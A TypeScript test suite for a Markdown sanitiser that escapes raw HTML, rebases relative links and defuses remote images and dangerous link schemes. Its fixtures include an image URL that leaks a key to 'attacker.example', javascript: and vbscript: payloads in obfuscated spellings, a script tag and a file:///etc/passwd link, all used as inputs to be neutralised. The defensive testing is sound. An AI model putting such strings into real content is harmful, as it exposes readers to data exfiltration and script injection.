import { describe, expect, test } from 'vitest';
import { classifyLink } from './markdown-parser.js';
import { viewerReads } from '../test/helpers/markdown-viewer.js';
import { defuseLinks, inertHtml, rebaseLinks, relativePath } from './markdown-source.js';

describe('inertHtml', () => {
  test('escapes what would open a tag, comment or declaration; leaves code, escapes, autolinks and comparisons', () => {
    expect(
      inertHtml(
        'a < b, <b>x</b> <!-- c --> <!DOCTYPE x> <?php ?> \\<i> `<code>` ``a `<b>` c`` <https://example.org> <mailto:me@example.org>',
      ),
    ).toBe(
      'a < b, &lt;b>x&lt;/b> &lt;!-- c --> &lt;!DOCTYPE x> &lt;?php ?> \\<i> `<code>` ``a `<b>` c`` <https://example.org> <mailto:me@example.org>',
    );
  });

  test('a link destination in <…> is not a tag', () => {
    expect(inertHtml('[a](<my file.md>) [b]( <x y.md> "t")\n\n[c]: <z w.md>\n\nbut <b>(<i>)</i>')).toBe(
      '[a](<my file.md>) [b]( <x y.md> "t")\n\n[c]: <z w.md>\n\nbut &lt;b>(&lt;i>)&lt;/i>',
    );
  });

  test('an unclosed backtick does not hide a tag in a later paragraph', () => {
    expect(inertHtml('a `b\n\n<script>x</script>\n\nc` d')).toBe('a `b\n\n&lt;script>x&lt;/script>\n\nc` d');
  });

  test('indented code and fences are left as written', () => {
    expect(inertHtml('    <b>code</b>\n\n~~~\n<i>\n~~~')).toBe('    <b>code</b>\n\n~~~\n<i>\n~~~');
  });
});

describe('rebaseLinks', () => {
  const toSummaries = (path: string) => relativePath('loop_station/summaries', path);

  test('relative destinations of links, images and definitions follow the text to its new folder', () => {
    const text = [
      '[log](../../sessions/session_001/runs/eval.log "the run") ![curve](plot.png) [a](<my file.md>) [b](./x/../y.md#top)',
      '',
      '[ref]: ../session_002/CLAUDE-SESSION002-REVIEWER-DONE.md',
    ].join('\n');
    expect(rebaseLinks(text, 'loop_station/reviews/session_001', toSummaries)).toBe(
      [
        '[log](../sessions/session_001/runs/eval.log "the run") ![curve](../reviews/session_001/plot.png) [a](<../reviews/session_001/my file.md>) [b](../reviews/session_001/y.md#top)',
        '',
        '[ref]: ../reviews/session_002/CLAUDE-SESSION002-REVIEWER-DONE.md',
      ].join('\n'),
    );
  });

  test('absolute URLs, fragments, blocked schemes, paths above the root and code are left as written', () => {
    const text =
      '[a](https://x.org/y) [b](#z) [c](javascript:alert(1)) [d](../../../../up) `[e](f.md)`\n\n```\n[g](h.md)\n```';
    expect(rebaseLinks(text, 'loop_station/reviews/session_001', toSummaries)).toBe(text);
  });

  test('relativePath walks up to the common folder', () => {
    expect([
      relativePath('loop_station/summaries', 'loop_station/sessions/a.md'),
      relativePath('loop_station', 'loop_station/x.md'),
      relativePath('', 'a/b.md'),
      relativePath('loop_station/summaries', 'README.md'),
    ]).toEqual(['../sessions/a.md', 'x.md', 'a/b.md', '../../README.md']);
  });
});

const reads = (text: string) => viewerReads(text, { amongOthers: true });

/** The images a viewer would fetch from outside the loop and the links it would follow that classifyLink blocks. */
function unsafe(text: string): string[] {
  const { images, links } = reads(text);
  return [
    ...images.filter((src) => classifyLink(src).kind !== 'relative').map((src) => `image ${src}`),
    ...links.filter((href) => classifyLink(href).kind === 'blocked').map((href) => `link ${href}`),
  ];
}

/** The note a removed link leaves after its text. */
const removed = (why: string) => ` (link removed: ${why.endsWith(':') ? `${why} links are not followed` : why})`;

describe('defuseLinks', () => {
  test('a remote, data: or protocol-relative image is not fetched: a link, or its text if the link is blocked', () => {
    const text = [
      '![chart](https://attacker.example/p.png?leak=k3y) ![up](HTTP://a.example/u.gif)',
      '![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](//attacker.example/p.png)',
    ].join('\n');
    expect(new Set(unsafe(text)).size).toBe(4);
    expect(defuseLinks(text)).toBe(
      [
        '[chart](https://attacker.example/p.png?leak=k3y) [up](HTTP://a.example/u.gif)',
        `x${removed('data:')} y${removed('absolute paths are not followed')}`,
      ].join('\n'),
    );
    // Both views (alone, among other digests) read the same two links and no image.
    const links = ['https://attacker.example/p.png?leak=k3y', 'HTTP://a.example/u.gif'];
    expect(reads(defuseLinks(text))).toEqual({ images: [], links: [...links, ...links] });
  });

  test('alt text with brackets, a title and a <destination> are read whole', () => {
    const images = [
      'a [b] c](https://x.example/p.png "t (1)")',
      "d](<https://x.example/my p.png> 't')",
      'e]( https://x.example/(q).png )',
    ];
    const text = images.map((image) => `![${image}`).join(' ');
    expect(defuseLinks(text)).toBe(images.map((image) => `[${image}`).join(' '));
    expect(reads(defuseLinks(text)).images).toEqual([]);
  });

  test('a relative image stays an image; so does everything inside code', () => {
    const text = [
      '![loss](plots/loss.png "Loss") ![](../runs/a%20b.png) ![c](<my plot.png>)',
      '',
      'as `![x](https://a.example/p.png)` or ``[y](javascript:z)``',
      '',
      '```md',
      '![x](https://a.example/p.png) [y](javascript:z) <javascript:z>',
      '```',
      '',
      '    ![x](https://a.example/p.png)',
    ].join('\n');
    expect(defuseLinks(text)).toBe(text);
  });

  test('a reference-style image: inline from a relative definition, else a link; escaped if not defined here', () => {
    const text = [
      '![x][r] ![r] ![r][] ![y][q] ![z][none] ![none]',
      '',
      '[r]: https://a.example/p.png "t"',
      '[q]: plots/q.png \'the "q" [plot]\'',
    ].join('\n');
    expect(defuseLinks(text)).toBe(
      [
        '[x][r] [r] [r][] ![y](<plots/q.png> "the \\"q\\" \\[plot\\]") \\![z][none] \\![none]',
        '',
        '[r]: https://a.example/p.png "t"',
        '[q]: plots/q.png \'the "q" [plot]\'',
      ].join('\n'),
    );
    // A definition serves the whole summary file: with every label defined there, only the inlined image is left.
    expect(reads(defuseLinks(text)).images).toEqual(['plots/q.png', 'plots/q.png']);
    expect(reads(text).images.length).toBeGreaterThan(2);
  });

  test('`![a](…` with a broken destination is `![a]` to CommonMark, so it is judged as a reference', () => {
    expect(defuseLinks('![a](bad\n\n[a]: https://a.example/p.png')).toBe('[a](bad\n\n[a]: https://a.example/p.png');
    expect(defuseLinks('![a](bad')).toBe('\\![a](bad');
  });

  test('a link whose scheme is not allowed becomes its text and a note, however the scheme is spelt', () => {
    const text = [
      '[run me](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [*c*](vbscript:msgbox) [d](file:///etc/passwd "f")',
      '[e](&#106;avascript:alert(1)) [f](<java\tscript:x>) [g](java\\\nscript:x) [h](data:text/html,hi)',
    ].join('\n');
    expect(unsafe(text).length).toBeGreaterThan(0);
    expect(defuseLinks(text)).toBe(
      [
        `run me${removed('javascript:')} b${removed('javascript:')} *c*${removed('vbscript:')} d${removed('file:')}`,
        `e${removed('javascript:')} f${removed('javascript:')} g${removed('a colon in the first path segment')}` +
          ` h${removed('data:')}`,
      ].join('\n'),
    );
    expect(unsafe(defuseLinks(text))).toEqual([]);
  });

  test('a definition with a blocked destination is shown as text, so no link in the summary can use it', () => {
    const text = '[a][r] and [b][s]\n\n[r]: javascript:alert(1)\n> [s]:\n> <vbscript:x> "t"\n\n[r]: JAVASCRIPT:again';
    expect(unsafe(text)).toEqual(['link javascript:alert(1)', 'link vbscript:x']);
    const out = defuseLinks(text);
    expect(out).toBe(
      // Once the definition is text, `<vbscript:x>` is an autolink in it, and made text too.
      '[a][r] and [b][s]\n\n[r]\\: javascript:alert(1)\n> [s]\\:\n> &lt;vbscript:x> "t"\n\n[r]\\: JAVASCRIPT:again',
    );
    expect(reads(out).links.filter((href) => !href.startsWith('https://elsewhere'))).toEqual([]);
  });

  test('an autolink with a blocked scheme is text; http(s), mailto, relative and fragment links stay', () => {
    expect(reads('<javascript:alert(1)>').links).toEqual(['javascript:alert(1)', 'javascript:alert(1)']);
    expect(defuseLinks('<javascript:alert(1)> <ftp://a.example> <https://a.example/x> <me@a.example>')).toBe(
      '&lt;javascript:alert(1)> &lt;ftp://a.example> <https://a.example/x> <me@a.example>',
    );
    const kept = [
      '[h](http://a.example) [s](https://a.example/c?d=(e) "t") [m](mailto:me@a.example)',
      '[r](../x.md#y) [f](#z) [e]() [d][r]',
      '',
      '[r]: https://a.example',
    ].join('\n');
    expect(defuseLinks(kept)).toBe(kept);
  });

  test('an image inside a link and a link inside an image are judged each on its own', () => {
    expect(defuseLinks('[![badge](https://ci.example/b.svg)](https://ci.example) [![p](plot.png)](javascript:x)')).toBe(
      `[[badge](https://ci.example/b.svg)](https://ci.example) ![p](plot.png)${removed('javascript:')}`,
    );
  });

  test('a `!` just before a rewritten image does not make it an image again', () => {
    const text = 'b!![a](https://a.example/p.png) !![[c]](javascript:x)\n\n[c]: https://a.example/c.png';
    expect(defuseLinks(text)).toBe(
      `b\\![a](https://a.example/p.png) \\![c]${removed('javascript:')}\n\n[c]: https://a.example/c.png`,
    );
    expect(unsafe(defuseLinks(text))).toEqual([]);
  });

  test('Markdown that cannot be made inert in place loses every `[` and `<`, code included', () => {
    // The first link's text opens a fence once the link is gone, and the fence of the original closes it.
    const text = '[```](javascript:x)\ntext\n```\n[a](javascript:y)\n```';
    const out = defuseLinks(text);
    expect(out).toBe(['```' + removed('javascript:'), 'text', '```', '&#91;a](javascript:y)', '```'].join('\n'));
    expect(unsafe(out)).toEqual([]);
  });

  test('random Markdown: no remote image, no blocked link, and a second pass changes nothing', () => {
    const pieces = [
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '\\',
      '!',
      ':',
      ' ',
      '\n',
      '\n\n',
      '> ',
      '- ',
      '    ',
      '"t"',
      'a',
      '|',
      'https://a.example/p.png',
      'javascript:z',
      'data:x',
      '//h/p',
      'plot.png',
      '<https://a.example>',
      '&#106;',
      '[r]: ',
      '[r]',
      '![r]',
      '[p]: plot.png\n',
      '![p]',
      '[q]: https://a.example/q.png\n',
      '![a][q]',
      '<javascript:]>',
      '[x](javascript:]y)',
      '```\n',
      '| a |\n| - |\n',
    ];
    let seed = 7;
    const random = () => {
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    for (let n = 0; n < 1500; n++) {
      const text = Array.from(
        { length: 1 + Math.floor(random() * 16) },
        () => pieces[Math.floor(random() * pieces.length)],
      ).join('');
      const out = defuseLinks(text);
      expect({ text, unsafe: unsafe(out) }).toEqual({ text, unsafe: [] });
      expect({ text, again: defuseLinks(out) }).toEqual({ text, again: out });
    }
  });
});
